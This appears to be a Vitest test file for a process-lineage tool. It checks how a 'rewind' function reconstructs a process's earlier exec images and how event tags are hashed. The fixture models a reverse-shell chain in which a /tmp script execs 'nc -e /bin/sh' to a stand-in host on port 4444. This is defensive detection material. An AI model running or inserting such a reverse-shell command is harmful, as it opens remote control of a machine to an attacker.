import { describe, expect, it } from "vitest";
import { eventTag } from "../../lib/lineage/event-tag.js";
import type { ProcessImage, ProcessRecord } from "../../lib/lineage/process-record.js";
import { rewind } from "../../lib/lineage/rewind.js";

const image = (executable: string, time: number, by?: string): ProcessImage => ({
  executable,
  args: [executable],
  time,
  ...(by !== undefined && { by }),
});

/** pid 700: `sh /tmp/x.sh` (e0), then `exec nc -e /bin/sh …` (e1), then nc exec'ing /bin/sh (e2). */
const record: ProcessRecord = {
  host: "vm",
  pid: 700,
  ppid: 650,
  sessionId: "3",
  entityId: "image-e2",
  ...image("/usr/bin/dash", 3_000, "e2"),
  chain: [
    { ...image("/usr/bin/nc.traditional", 2_000, "e1"), args: ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"] },
    { ...image("/usr/bin/dash", 1_000, "e0"), script: "/tmp/x.sh", args: ["sh", "/tmp/x.sh"] },
  ],
  ancestors: [{ pid: 650, executable: "/usr/bin/bash", args: ["bash"], time: 500, chain: [] }],
};

describe("rewind", () => {
  it.each([
    ["written by another batch", ["e9"], "/usr/bin/dash", 3_000, 2],
    ["its newest image is this batch's", ["e2"], "/usr/bin/nc.traditional", 2_000, 1],
    ["its two newest images are this batch's", ["e1", "e2"], "/usr/bin/dash", 1_000, 0],
  ])("a record %s is read as it was before the batch", (_name, own, executable, time, chain) => {
    const before = rewind(record, new Set(own));
    expect(before).toMatchObject({ executable, time, ppid: 650, sessionId: "3" });
    expect(before!.chain).toHaveLength(chain);
    expect(before!.ancestors).toBe(record.ancestors);
  });

  it("the exec chain behind nc survives: the /tmp script is still the previous image", () => {
    const before = rewind(record, new Set(["e1", "e2"]))!;
    expect(before.script).toBe("/tmp/x.sh");
    expect(before.by).toBe("e0");
    // The image id was the peeled image's.
    expect(before.entityId).toBeUndefined();
  });

  it("a process whose every image is this batch's did not exist before it", () => {
    expect(rewind(record, new Set(["e0", "e1", "e2"]))).toBeUndefined();
  });

  it("records without tags (written before tags existed) are never rewound", () => {
    const { by: _, ...untagged } = record;
    expect(rewind(untagged, new Set(["e2"]))).toBe(untagged);
  });
});

describe("eventTag", () => {
  it("is stable, short, and tells ids apart", () => {
    expect(eventTag("vm:1795822038.628:1051")).toBe(eventTag("vm:1795822038.628:1051"));
    const tags = new Set<string>();
    for (let i = 0; i < 50_000; i++) {
      const tag = eventTag(`web-01:1795822038.${String(i % 1000).padStart(3, "0")}:${i}`);
      expect(tag.length).toBeLessThanOrEqual(14);
      tags.add(tag);
    }
    expect(tags.size).toBe(50_000);
  });
});
